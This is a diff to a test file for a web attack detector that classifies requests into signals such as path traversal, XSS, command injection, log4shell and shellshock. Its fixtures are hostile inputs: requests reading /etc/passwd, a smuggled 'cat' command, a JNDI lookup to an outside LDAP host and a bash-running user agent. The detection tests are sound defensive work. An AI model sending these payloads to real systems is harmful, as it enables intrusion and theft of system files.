@@ -13,7 +13,7 @@ import {
   isScannerUserAgent,
   isSensitiveFileProbe,
 } from './detectors';
-import { SIGNALS, type Signal } from './signal';
+import { BEHAVIOUR_MARKERS, SIGNALS, type Signal } from './signal';
 
 interface Row<I, E> {
   name: string;
@@ -522,17 +522,21 @@ const EVENTS: Row<DetectableEvent, Signal[]>[] = [
     expected: ['sql_injection', 'scanner'],
   },
   { name: 'reflected xss', input: web('/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'), expected: ['xss'] },
-  { name: 'traversal in the query', input: web('/download?file=../../../../etc/passwd'), expected: ['path_traversal'] },
+  {
+    name: 'traversal in the query',
+    input: web('/download?file=../../../../etc/passwd'),
+    expected: ['path_traversal', 'lfi'],
+  },
   {
     name: 'traversal in the path',
     input: web('/static/..%2f..%2fetc/passwd'),
-    expected: ['path_traversal', 'sensitive_file_probe'],
+    expected: ['path_traversal', 'sensitive_file_probe', 'lfi'],
   },
   { name: 'dotenv probe by nuclei', input: web('/.env', ua.nuclei), expected: ['scanner', 'sensitive_file_probe'] },
   {
     name: 'command injection',
     input: web('/cgi-bin/ping?host=127.0.0.1%3Bcat%20/etc/passwd'),
-    expected: ['path_traversal', 'command_injection'],
+    expected: ['path_traversal', 'command_injection', 'lfi'],
   },
   { name: 'log4shell in the user agent', input: web('/', '${jndi:ldap://203.0.113.9/a}'), expected: ['log4shell'] },
   {
@@ -543,7 +547,7 @@ const EVENTS: Row<DetectableEvent, Signal[]>[] = [
   {
     name: 'shellshock in the user agent',
     input: web('/cgi-bin/status', "() { :; }; /bin/bash -c 'id'"),
-    expected: ['command_injection'],
+    expected: ['command_injection', 'code_injection', 'exploit_probe'],
   },
   {
     name: 'waf message',
@@ -553,8 +557,10 @@ const EVENTS: Row<DetectableEvent, Signal[]>[] = [
 ];
 
 describe(detectSignals.name, () => {
+  // Behaviour markers (dynamic_request, http_not_found…) are counted by the policy and tested
+  // with the web rules; these rows are about evidence.
   it.each(EVENTS)('$name', ({ input, expected }) => {
-    expect(detectSignals(input)).toEqual(expected);
+    expect(detectSignals(input).filter((signal) => !BEHAVIOUR_MARKERS.has(signal))).toEqual(expected);
   });
 
   it('returns distinct signals in SIGNALS order', () => {
